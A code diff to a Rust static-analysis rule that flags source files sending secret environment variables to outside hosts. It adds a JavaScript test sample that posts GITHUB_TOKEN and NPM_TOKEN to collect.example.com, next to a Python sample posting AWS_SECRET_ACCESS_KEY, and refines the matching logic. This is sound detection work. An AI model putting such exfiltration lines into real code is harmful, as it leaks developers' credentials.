@@ -34,6 +34,10 @@ pub static RULE: Rule = Rule {
             "scripts/a.py",
             "import os, requests\nrequests.post('https://collect.example.com', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
         ),
+        Sample::File(
+            "scripts/a.js",
+            "fetch('https://collect.example.com', { method: 'POST', body: process.env.GITHUB_TOKEN + process.env.NPM_TOKEN });\n",
+        ),
     ],
     misses: &[
         Sample::File(
@@ -68,9 +72,9 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
         {
             continue;
         }
-        let names = sending.variables(unit);
-        let secret = names.iter().find(|name| vendor::is_secret_name(name));
-        let Some(name) = secret else { continue };
+        let mut names = sending.variables(unit);
+        names.retain(|name| vendor::is_secret_name(name));
+        let Some(name) = names.first() else { continue };
         if let Some(collector) = sending.collector {
             let own = match collector {
                 Collector::ChatHook => {
@@ -99,10 +103,12 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             }
             continue;
         }
-        let (Some(host), Some(vendor)) = (&sending.host, vendor::of_variable(name)) else {
-            continue;
-        };
-        if vendor.owns(host) || vendor::share_a_word(name, host) {
+        let Some(host) = &sending.host else { continue };
+        let foreign = names.iter().all(|name| {
+            vendor::of_variable(name)
+                .is_some_and(|vendor| !vendor.owns(host) && !vendor::share_a_word(name, host))
+        });
+        if !foreign {
             continue;
         }
         // A gateway in front of several makers speaks for the person; only a
